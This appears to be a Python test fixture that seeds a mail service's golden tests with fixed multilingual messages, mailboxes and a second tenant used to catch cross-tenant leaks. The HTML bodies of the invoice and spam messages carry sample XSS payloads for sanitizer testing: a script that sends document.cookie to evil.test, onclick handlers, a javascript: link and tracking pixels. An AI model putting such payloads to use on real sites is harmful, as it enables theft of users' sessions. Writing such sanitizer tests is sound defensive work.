# Cyrillic, German and French text is the point of this file: its letters are meant.
# ruff: noqa: RUF001
"""The fixed mailbox the golden tests read: rows stored straight into PostgreSQL.

Every id, timestamp, flag and body is a constant here, so the answers recorded in
`tests/golden/data/` are the same on every run. Nothing comes from the sync engine,
`uuid7()` or `now()`; `tests.golden.rows` writes the rows, computing thread
summaries and mailbox counters from the messages below as the sync would keep them.

Tenant `golden-a` has one account with six mailboxes (INBOX, Sent, Trash, Archive
whose last sync failed, the non-selectable `Projects` and its child `Projects/Zürich`),
23 messages in 8 threads plus 3 without a thread, and names, subjects and bodies in
English, German, French and Russian. Tenant `golden-b` has an account whose messages
share words with tenant A's, so a search or lookup that leaks across tenants shows.
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass
from datetime import datetime

TENANT = "golden-a"
OTHER_TENANT = "golden-b"
UNGRANTED_TENANT = "golden-c"
"""A tenant no token of the golden tests grants."""

Address = dict[str, str | None]


def _id(kind: int, number: int) -> uuid.UUID:
    """A fixed id shaped like the service's uuid7 ids; `kind` keeps tables apart."""
    return uuid.UUID(f"0195f3c4-{kind:04x}-7000-8000-{number:012x}")


def at(moment: str) -> datetime:
    """A fixed moment from its ISO 8601 form (with its offset)."""
    return datetime.fromisoformat(moment)


def _address(name: str | None, address: str) -> Address:
    return {"name": name, "address": address}


ADA = _address("Ada Lovelace", "ada@golden.test")
ADA_ARCHIVE = _address("Ada (archive)", "ada+archive@golden.test")
BOB = _address("Bob Müller", "bob@example.test")
CAROL = _address("Carol Nguyễn", "carol@example.test")
IVAN = _address("Иван Петров", "ivan@example.ru")
JUERGEN = _address("Jürgen Groß", "juergen@example.de")
ANNA = _address("Anna Groß", "anna@example.de")
SECRETARIAT = _address("Sekretariat Groß", "sekretariat@example.de")
DANA = _address("Dana Scully", "dana@example.test")
ELODIE = _address("Élodie Durand", "elodie@example.fr")
TEAM = _address("Team", "team@golden.test")
GLOBEX = _address("Globex Billing", "billing@globex.test")
GLOBEX_ACCOUNTS = _address(None, "accounts@globex.test")
FRANK = _address("Frank O'Brien", "frank@lawfirm.test")
MONITOR = _address(None, "monitor@ops.example")
PRIZE = _address("Prize Desk", "winner@prize.example")
WELCOME = _address("Golden Mail", "hello@golden.test")
EVE = _address("Eve Other", "eve@other.test")
MALLORY = _address("Mallory", "mallory@other.test")

SEEN = "\\Seen"
FLAGGED = "\\Flagged"
ANSWERED = "\\Answered"

STORED_AT = at("2026-02-20T09:00:00+00:00")
"""When the accounts and mailboxes were created."""
LAST_SYNC = at("2026-03-10T12:00:00+00:00")


@dataclass(frozen=True, slots=True)
class Part:
    """An attachment row of a message."""

    number: int
    section: str
    filename: str | None
    content_type: str
    size: int
    encoding: str = "base64"
    content_id: str | None = None
    inline: bool = False

    @property
    def id(self) -> uuid.UUID:
        return _id(0xE000, self.number)


@dataclass(frozen=True, slots=True)
class MailboxSpec:
    """A mailbox row; its counters come from the messages stored in it."""

    number: int
    tenant_id: str
    name: str
    role: str | None
    attributes: tuple[str, ...]
    uidvalidity: int | None
    selectable: bool = True
    sync_state: str = "synced"
    sync_error: str | None = None
    # Messages the server reported beyond those stored (a failed pass stored fewer).
    missing: int = 0

    @property
    def id(self) -> uuid.UUID:
        return _id(0xB000, self.number)


@dataclass(frozen=True, slots=True)
class Mail:
    """A message row: `number` makes its id (ids do not follow dates, on purpose)."""

    number: int
    key: str
    mailbox: MailboxSpec
    received: str
    subject: str | None
    from_: tuple[Address, ...]
    to: tuple[Address, ...]
    text: str | None
    thread: str | None
    flags: tuple[str, ...] = (SEEN,)
    cc: tuple[Address, ...] = ()
    bcc: tuple[Address, ...] = ()
    reply_to: tuple[Address, ...] = ()
    sender: tuple[Address, ...] = ()
    # Minutes between the Date header and the server's receipt; None: no Date header.
    date_minutes_before: int | None = 3
    html: str | None = None
    attachments: tuple[Part, ...] = ()
    parse_error: str | None = None
    in_reply_to: str | None = None
    references: tuple[str, ...] = ()
    has_message_id: bool = True
    snippet: str | None = None

    @property
    def id(self) -> uuid.UUID:
        base = 0xD000 if self.mailbox.tenant_id == TENANT else 0xD100
        return _id(base, self.number)

    @property
    def tenant_id(self) -> str:
        return self.mailbox.tenant_id

    @property
    def received_at(self) -> datetime:
        return at(self.received)

    @property
    def message_id(self) -> str | None:
        return f"{self.key}@mail.golden.test" if self.has_message_id else None


# --- Tenant A ---------------------------------------------------------------------

ACCOUNT = _id(0xA000, 1)
INBOX = MailboxSpec(1, TENANT, "INBOX", "inbox", ("\\HasNoChildren",), 1_700_000_001)
SENT = MailboxSpec(2, TENANT, "Sent", "sent", ("\\HasNoChildren", "\\Sent"), 1_700_000_002)
TRASH = MailboxSpec(3, TENANT, "Trash", "trash", ("\\HasNoChildren", "\\Trash"), 1_700_000_003)
ARCHIVE = MailboxSpec(
    4,
    TENANT,
    "Archive",
    "archive",
    ("\\HasNoChildren", "\\Archive"),
    1_700_000_004,
    sync_state="error",
    sync_error="FETCH failed: BAD [SERVERBUG] Internal error occurred. Refer to server log.",
    missing=3,
)
PROJECTS = MailboxSpec(
    5,
    TENANT,
    "Projects",
    None,
    ("\\HasChildren", "\\Noselect"),
    None,
    selectable=False,
    sync_state="pending",
)
ZURICH = MailboxSpec(6, TENANT, "Projects/Zürich", None, ("\\HasNoChildren",), 1_700_000_006)
MAILBOXES = (INBOX, SENT, TRASH, ARCHIVE, PROJECTS, ZURICH)

THREADS: dict[str, uuid.UUID] = {
    key: _id(0xC000, number)
    for number, key in enumerate(
        ("budget", "otchet", "zurich", "invoice", "offsite", "lunch", "alert", "contract"),
        start=1,
    )
}

_INVOICE_HTML = (
    "<html><head><style>body { background: url(https://tracker.globex.test/bg.png) }</style>"
    '</head><body><p onclick="steal()">Dear Ada,</p>'
    "<p>please find invoice <b>2026-031</b> attached. Amount due: 1.250,00&nbsp;EUR.</p>"
    '<img src="cid:logo@globex.test" alt="Globex">'
    '<img src="https://tracker.globex.test/open.gif?u=ada" width="1" height="1">'
    "<script>document.location='https://evil.test/?'+document.cookie</script>"
    '<a href="javascript:alert(1)">Pay now</a> '
    '<a href="https://pay.globex.test/inv/2026-031" target="_blank">Pay online</a>'
    "</body></html>"
)
_REMINDER_HTML = (
    "<p>Reminder: invoice <i>2026-031</i> is due on 15 March.</p>"
    '<p><img src="https://cdn.globex.test/banner.png" alt="Globex"></p>'
    '<form action="https://pay.globex.test/"><input name="card"></form>'
)
_OFFSITE_HTML = (
    '<div style="font-family: Arial"><h1>Team offsite</h1>'
    "<p>The offsite budget is approved.</p>"
    '<img src="https://images.example.test/mill.jpg" alt="The old mill">'
    "<p>Shall we meet on Friday in the old mill?</p>"
    '<iframe src="https://maps.example.test/embed"></iframe></div>'
)
_PRIZE_HTML = (
    '<p>Click <a href="http://prize.example/claim" onclick="track()">here</a> '
    "to claim your prize!</p><script>steal()</script>"
    '<img src="http://prize.example/pixel.png">'
)
_WELCOME_HTML = (
    "<p>Welcome, Ada!</p><p>Your mailbox is ready.</p>"
    '<img src="cid:missing@golden.test" alt="logo">'
)

MAILS: tuple[Mail, ...] = (
    # Quarterly budget: INBOX and Sent, with a spreadsheet, the newest reply unread.
    Mail(
        7, "budget-1", INBOX, "2026-03-02T08:00:00+00:00", "Quarterly budget", (BOB,), (ADA,),
        "Hi Ada,\n\nplease send the quarterly report by Friday. The budget for Q2 needs "
        "your sign-off.\n\nThanks,\nBob\n",
        "budget", flags=(FLAGGED, SEEN), cc=(CAROL,),
    ),
    Mail(
        3, "budget-2", SENT, "2026-03-02T09:30:00+00:00", "Re: Quarterly budget", (ADA,),
        (BOB,),
        "Will do, the draft is almost ready.\n\nOn Mon, 2 Mar 2026 at 09:00, Bob Müller "
        "<bob@example.test> wrote:\n> Hi Ada,\n>\n> please send the quarterly report by "
        "Friday. The budget for Q2 needs\n> your sign-off.\n>\n> Thanks,\n> Bob\n",
        "budget", cc=(CAROL,), bcc=(ADA_ARCHIVE,), in_reply_to="budget-1@mail.golden.test",
        references=("budget-1@mail.golden.test",),
    ),
    Mail(
        12, "budget-3", INBOX, "2026-03-03T09:15:00+00:00", "Re: Quarterly budget", (CAROL,),
        (ADA, BOB),
        "Here are the budget figures as a spreadsheet. Travel is over by 12%.\n\nCarol\n",
        "budget",
        attachments=(
            Part(
                1, "2", "budget-2026.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", 18_234,
            ),
        ),
        in_reply_to="budget-2@mail.golden.test",
        references=("budget-1@mail.golden.test", "budget-2@mail.golden.test"),
    ),
    Mail(
        1, "budget-4", INBOX, "2026-03-08T18:00:00+00:00", "Re: Quarterly budget", (BOB,),
        (ADA,),
        "The quarterly report looks good. One question on travel.\n\n-- \nBob Müller\n"
        "Finance\n",
        "budget", flags=(), cc=(CAROL,), in_reply_to="budget-3@mail.golden.test",
        references=(
            "budget-1@mail.golden.test", "budget-2@mail.golden.test",
            "budget-3@mail.golden.test",
        ),
    ),
    # A Russian thread: INBOX (unread) and the reply in Sent.
    Mail(
        9, "otchet-1", INBOX, "2026-03-02T10:00:00+00:00", "Отчёт за квартал", (IVAN,), (ADA,),
        "Добрый день, Ада!\n\nПрилагаю квартальный отчёт (quarterly report) в тексте "
        "письма. Бюджет согласован.\n\nС уважением,\nИван\n",
        "otchet", flags=(), date_minutes_before=-120,
    ),
    Mail(
        15, "otchet-2", SENT, "2026-03-02T11:45:00+00:00", "Re: Отчёт за квартал", (ADA,),
        (IVAN,),
        "Спасибо, Иван!\n\nOn Mon, 2 Mar 2026 at 11:00, Иван Петров <ivan@example.ru> "
        "wrote:\n> Добрый день, Ада!\n> Прилагаю квартальный отчёт.\n",
        "otchet", flags=(SEEN, ANSWERED), in_reply_to="otchet-1@mail.golden.test",
        references=("otchet-1@mail.golden.test",),
    ),
    # A German thread in an ordinary folder: two From addresses and a Sender.
    Mail(
        20, "zurich-1", ZURICH, "2026-03-03T07:20:00+00:00", "Grüße aus Zürich",
        (JUERGEN, ANNA), (ADA,),
        "Liebe Ada,\n\nviele Grüße aus Zürich! Unser Büro ist jetzt in der Straße am See, "
        "gleich neben dem Bahnhof.\n\nJürgen\n",
        "zurich", flags=(SEEN, FLAGGED), sender=(SECRETARIAT,),
    ),
    Mail(
        5, "zurich-2", ZURICH, "2026-03-03T08:05:00+00:00", "Re: Grüße aus Zürich", (ANNA,),
        (ADA, JUERGEN),
        "Hier ist ein Foto vom neuen Büro.\n\nAnna\n",
        "zurich",
        attachments=(
            Part(2, "2", "Zürich-Straße.jpg", "image/jpeg", 245_760),
            Part(3, "3", None, "application/octet-stream", 512),
        ),
        in_reply_to="zurich-1@mail.golden.test", references=("zurich-1@mail.golden.test",),
    ),
    Mail(
        18, "zurich-3", ZURICH, "2026-03-06T11:11:00+00:00", "AW: Grüße aus Zürich",
        (JUERGEN,), (ADA,),
        "Kommst du im April vorbei?\n\nJürgen\n",
        "zurich", flags=("$Label1",), in_reply_to="zurich-2@mail.golden.test",
        references=("zurich-1@mail.golden.test", "zurich-2@mail.golden.test"),
    ),
    # An invoice with HTML to sanitize, an inline logo and a PDF; both unread.
    Mail(
        2, "invoice-1", INBOX, "2026-03-04T16:00:00+00:00", "Invoice 2026-031", (GLOBEX,),
        (ADA,),
        "Dear Ada,\n\nplease find invoice 2026-031 attached. Amount due: 1.250,00 EUR.\n\n"
        "Globex Billing\n",
        "invoice", flags=(), reply_to=(GLOBEX_ACCOUNTS,), html=_INVOICE_HTML,
        attachments=(
            Part(
                4, "1.2", "logo.png", "image/png", 4_096, content_id="logo@globex.test",
                inline=True,
            ),
            Part(5, "2", "invoice-2026-031.pdf", "application/pdf", 73_402),
        ),
    ),
    Mail(
        22, "invoice-2", INBOX, "2026-03-08T10:00:00+00:00",
        "Re: Invoice 2026-031 – Rechnung März", (GLOBEX,), (ADA,),
        "Reminder: invoice 2026-031 is due on 15 March.\n",
        "invoice", flags=(), html=_REMINDER_HTML,
        attachments=(Part(6, "2", "Rechnung März.pdf", "application/pdf", 70_001),),
        in_reply_to="invoice-1@mail.golden.test", references=("invoice-1@mail.golden.test",),
    ),
    # A team thread: HTML with a remote image, French, and Ada's reply quoting Dana.
    Mail(
        8, "offsite-1", INBOX, "2026-03-03T09:15:00+00:00", "Team offsite", (DANA,), (TEAM,),
        "Hi all,\n\nthe offsite budget is approved. Shall we meet on Friday in the old "
        "mill?\n\nDana\n",
        "offsite", cc=(ADA,), html=_OFFSITE_HTML,
    ),
    Mail(
        14, "offsite-2", INBOX, "2026-03-03T14:00:00+00:00", "Re: Team offsite — réunion",
        (ELODIE,), (TEAM,),
        "Bonjour à tous,\n\nla réunion de préparation aura lieu jeudi à 10h.\n\nÉlodie\n",
        "offsite", in_reply_to="offsite-1@mail.golden.test",
        references=("offsite-1@mail.golden.test",),
    ),
    Mail(
        10, "offsite-3", SENT, "2026-03-04T10:30:00+00:00", "Re: Team offsite", (ADA,),
        (DANA,),
        "Sounds good, I'll book the mill.\n\nOn Tue, 3 Mar 2026 at 10:12, Dana Scully "
        "<dana@example.test> wrote:\n> Hi all,\n>\n> the offsite budget is approved. Shall "
        "we meet on Friday in the old mill?\n>\n> Dana\n\n-- \nAda Lovelace\nGolden Mail\n",
        "offsite", flags=(SEEN, ANSWERED), cc=(TEAM,), in_reply_to="offsite-1@mail.golden.test",
        references=("offsite-1@mail.golden.test",),
    ),
    # Lunch: one message in INBOX, the reply in Trash.
    Mail(
        4, "lunch-1", INBOX, "2026-03-05T08:00:00+00:00", "Lunch?", (BOB,), (ADA,),
        "Lunch at the Thai place at noon?\n",
        "lunch",
    ),
    Mail(
        16, "lunch-2", TRASH, "2026-03-05T08:30:00+00:00", "Re: Lunch?", (CAROL,), (BOB, ADA),
        "Count me in!\n",
        "lunch", in_reply_to="lunch-1@mail.golden.test", references=("lunch-1@mail.golden.test",),
    ),
    # Alerts: the second one could be parsed only in part.
    Mail(
        11, "alert-1", INBOX, "2026-03-07T06:00:00+00:00", "Server alert: disk 85% full",
        (MONITOR,), (ADA,),
        "Usage report for db-1: /var is 85% full. Next quarterly review: April.\n",
        "alert",
    ),
    Mail(
        21, "alert-2", INBOX, "2026-03-07T06:30:00+00:00", "Server alert: disk 91% full",
        (MONITOR,), (ADA,),
        "Usage report for db-1: /var is 91% full.\n--b1_broken\nContent-Type: text/pl",
        "alert", flags=(),
        parse_error="multipart/mixed: the closing boundary is missing; the rest was kept as text",
        in_reply_to="alert-1@mail.golden.test", references=("alert-1@mail.golden.test",),
    ),
    # A contract: the first draft archived, the second in INBOX; both starred.
    Mail(
        19, "contract-1", ARCHIVE, "2026-02-27T15:00:00+00:00", "Draft contract", (FRANK,),
        (ADA,),
        "Attached is the first draft of the contract.\n",
        "contract", flags=(SEEN, FLAGGED),
        attachments=(
            Part(
                7, "2", "contract-v1.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                31_337,
            ),
        ),
    ),
    Mail(
        6, "contract-2", INBOX, "2026-03-06T09:00:00+00:00", "Re: Draft contract", (FRANK,),
        (ADA,),
        "Second draft attached; clause 7 is new.\n",
        "contract", flags=(FLAGGED, SEEN), cc=(BOB,),
        attachments=(
            Part(
                8, "2", "contract-v2.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                33_002,
            ),
        ),
        in_reply_to="contract-1@mail.golden.test", references=("contract-1@mail.golden.test",),
    ),
    # Without a thread: no subject, sender or date; spam in Trash; an HTML-only welcome.
    Mail(
        13, "nothing", INBOX, "2026-03-01T23:59:59+00:00", None, (), (ADA,),
        "No subject, no sender, no date.\n",
        None, date_minutes_before=None, has_message_id=False,
    ),
    Mail(
        17, "prize", TRASH, "2026-03-09T07:00:00+00:00", "You won a prize!!!", (PRIZE,), (ADA,),
        None, None, html=_PRIZE_HTML, snippet="Click here to claim your prize!",
    ),
    Mail(
        23, "welcome", INBOX, "2026-03-09T08:00:00+00:00", "Welcome to Golden Mail",
        (WELCOME,), (ADA,),
        "Welcome, Ada!\n\nYour mailbox is ready.\n",
        None, flags=(), html=_WELCOME_HTML,
    ),
)  # fmt: skip

MESSAGES: dict[str, uuid.UUID] = {mail.key: mail.id for mail in MAILS}
ATTACHMENTS: dict[str, uuid.UUID] = {
    part.filename or f"{mail.key}#{part.section}": part.id
    for mail in MAILS
    for part in mail.attachments
}

# --- Tenant B ----------------------------------------------------------------------

OTHER_ACCOUNT = _id(0xA000, 2)
OTHER_INBOX = MailboxSpec(11, OTHER_TENANT, "INBOX", "inbox", ("\\HasNoChildren",), 42)
OTHER_THREAD = _id(0xC000, 99)
OTHER_MAILS: tuple[Mail, ...] = (
    Mail(
        1, "other-1", OTHER_INBOX, "2026-03-04T12:00:00+00:00", "Budget leak", (MALLORY,),
        (EVE,),
        "The quarterly report and the budget of tenant B.\n",
        "other", flags=(),
    ),
    Mail(
        2, "other-2", OTHER_INBOX, "2026-03-05T12:00:00+00:00", "Re: Budget leak", (EVE,),
        (MALLORY,),
        "Budget approved; report filed.\n",
        "other", attachments=(Part(99, "2", "leak.pdf", "application/pdf", 1_000),),
    ),
)  # fmt: skip
OTHER_MESSAGE = OTHER_MAILS[0].id

UNKNOWN = uuid.UUID("0195f3c4-ffff-7000-8000-000000000000")
"""An id no row of any tenant has."""

IDLE_MAILBOXES = ("INBOX", "Projects/Zürich")
IDLE_SINCE = "2026-03-10T11:58:00+00:00"
